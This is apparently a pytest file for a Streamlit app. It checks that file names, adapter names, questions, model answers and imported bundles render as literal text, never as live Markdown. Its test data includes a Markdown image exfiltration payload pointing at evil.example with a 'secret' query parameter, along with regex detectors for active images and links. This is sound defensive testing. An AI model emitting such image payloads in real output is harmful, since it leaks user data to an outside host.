"""Words from users and bundles are shown literally wherever Streamlit renders Markdown: a file or
adapter named like a Markdown image never loads an address in the reader's browser."""

from __future__ import annotations

import re

from core.settings import load_settings
from tests.support.training import trained
from tests.views.test_knowledge import create, upload

HOSTILE = "![x](https:evil.example?q=secret)"  # no "/": it survives as a file name
# An image or link that Markdown would act on: "![" or "](" not escaped by a backslash.
ACTIVE = re.compile(r"(?<!\\)!(?<!\\)\[|(?<!\\)\]\(")
# A model's answer stays Markdown (lists, bold, links), but no image in it may load: "![" never.
IMAGE = re.compile(r"(?<!\\)!(?<!\\)\[")


def unsafe(strings: list[str], answer: str) -> list[str]:
    """The strings with "evil" that Markdown would act on: images anywhere; links too, except
    in the model's answers (those start with `answer`)."""
    return [
        s for s in strings if "evil" in s and (IMAGE if s.startswith(answer) else ACTIVE).search(s)
    ]


def rendered(at) -> list[str]:  # type: ignore[no-untyped-def]
    """Every string of the page that Streamlit renders as Markdown: bodies, labels, captions,
    alerts, toasts, table cells."""
    found: list[str] = []

    def walk(node) -> None:  # type: ignore[no-untyped-def]
        proto = getattr(node, "proto", None)
        for field in ("body", "label", "value", "help", "text", "caption"):
            value = getattr(proto, field, None) if proto is not None else None
            if isinstance(value, str) and value:
                found.append(value)
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    found += [str(cell) for table in at.table for cell in table.value.to_numpy().ravel()]
    return found


def test_a_hostile_file_name_is_shown_literally_on_the_knowledge_page(
    open_page, fake_search
) -> None:
    at = create(open_page("views/knowledge.py"), "Harbor")
    upload(at, (f"{HOSTILE}.txt", b"The release code is BLUE-HARBOR-42."))
    assert not at.exception
    strings = rendered(at)
    assert any("evil" in s for s in strings)  # the name is shown...
    assert [s for s in strings if "evil" in s and ACTIVE.search(s)] == []  # ...as text


def test_a_hostile_adapter_name_is_shown_literally_on_the_fine_tune_page(open_page) -> None:
    trained(load_settings(), HOSTILE)
    at = open_page("views/finetune.py")
    assert not at.exception
    strings = rendered(at)
    assert any("evil" in s for s in strings)
    assert [s for s in strings if "evil" in s and ACTIVE.search(s)] == []


def hostile_studio(settings, embeddings) -> None:  # type: ignore[no-untyped-def]
    """A knowledge base whose only document has a hostile name and hostile text."""
    from core.knowledge.ingest import ChunkSettings, UploadedFile, ingest
    from core.knowledge.store import KnowledgeStore

    kb = KnowledgeStore(settings, embeddings).create("Policies")
    text = f"Refunds are possible within 45 days. {HOSTILE}".encode()
    list(ingest(kb, [UploadedFile(f"{HOSTILE}.txt", text)], ChunkSettings(200, 20)))


def test_hostile_questions_answers_and_sources_are_shown_literally_in_the_arena(
    open_page, fake_model, fake_search
) -> None:
    settings = load_settings()
    hostile_studio(settings, fake_search)
    trained(settings, HOSTILE)
    fake_model.replies = [lambda request: f"The answer is {HOSTILE} [1]."]
    at = open_page("views/arena.py")
    at.chat_input(key="arena_input").set_value(f"What about {HOSTILE}?").run()
    assert not at.exception
    strings = rendered(at)
    assert sum("evil" in s for s in strings) >= 4  # question, answers, source name, adapter
    assert any(s.startswith("The answer is") for s in strings)
    assert unsafe(strings, "The answer is") == []


def test_hostile_questions_and_references_are_shown_literally_in_an_evaluation(
    open_page, fake_model, fake_search
) -> None:
    import json
    import time

    from core.evaluation import runner

    settings = load_settings()
    hostile_studio(settings, fake_search)
    fake_model.replies = [lambda request: f"It is {HOSTILE}."]
    rows = [{"question": f"What is {HOSTILE}?", "reference": HOSTILE, "accepted": [HOSTILE]}] * 2
    at = open_page("views/evaluate.py")
    data = "\n".join(json.dumps(row) for row in rows).encode()
    at.file_uploader[0].set_value([(f"{HOSTILE}.jsonl", data, "application/json")]).run()
    at.text_input(key="eval_name").set_value(HOSTILE).run()
    at.button(key="eval_run").click().run()
    report_id = at.session_state["eval_report_id"]
    deadline = time.monotonic() + 30
    while runner.is_running(report_id) and time.monotonic() < deadline:
        time.sleep(0.05)
    at.run()
    assert not at.exception
    strings = rendered(at)
    assert sum("evil" in s for s in strings) >= 3  # the name, the question, its answers
    assert any(s.startswith("It is") for s in strings)
    assert unsafe(strings, "It is") == []


def test_a_hostile_bundle_is_shown_literally_when_imported_and_opened(
    open_page, fake_model, fake_search, tmp_path
) -> None:
    """Names and words inside a stranger's demo bundle: its adapter, report and conversation."""
    from core.answering import conversations
    from core.evaluation import runner
    from core.knowledge.store import KnowledgeStore
    from core.sharing import export
    from core.training import adapters
    from tests.support.sharing import fill

    source = load_settings(data_dir=tmp_path / "elsewhere")
    made = fill(source, fake_search)
    adapters.rename(source, made["run_id"], HOSTILE)
    report = runner.load(source, made["report"])
    report.name, report.results[0].question = HOSTILE, f"What is {HOSTILE}?"
    runner.save(source, report)
    conversation = conversations.load(source, made["conversation"])
    conversation.exchanges[0].question = f"Tell me {HOSTILE}"
    conversations.save(source, conversation)
    store = KnowledgeStore(source, fake_search)
    choice = export.ExportChoice(
        knowledge_bases=store.names(),
        adapters=[made["run_id"]],
        evaluations=[made["report"]],
        conversations=[made["conversation"]],
    )
    bundle = export.export_bundle(source, store, choice, tmp_path / "demo.zip")

    at = open_page("views/share.py")
    at.file_uploader[0].set_value([("demo.zip", bundle.read_bytes(), "application/zip")]).run()
    assert not at.exception
    preview = rendered(at)
    at.button(key="share_import").click().run()
    assert not at.exception
    at_evaluate = open_page("views/evaluate.py")
    assert not at_evaluate.exception
    strings = [*preview, *rendered(at), *rendered(at_evaluate)]
    assert sum("evil" in s for s in strings) >= 2  # the adapter in the plan, the report's name
    assert [s for s in strings if "evil" in s and ACTIVE.search(s)] == []


def test_a_web_address_is_shown_as_code_never_as_a_link_or_an_image() -> None:
    from views.support.widgets import markdown_escape

    shown = markdown_escape("See ![x](https://evil.example/x.png?q=1), or www.evil.example.")
    assert shown == r"See \!\[x\]\(`https://evil.example/x.png?q=1`\), or `www.evil.example`\."
    assert not ACTIVE.search(shown)
    # An address that must be read whole (a server's) keeps its dots: no backslash inside.
    assert markdown_escape("The server at http://127.0.0.1:8000/v1, serving m.") == (
        r"The server at `http://127.0.0.1:8000/v1`, serving m\."
    )
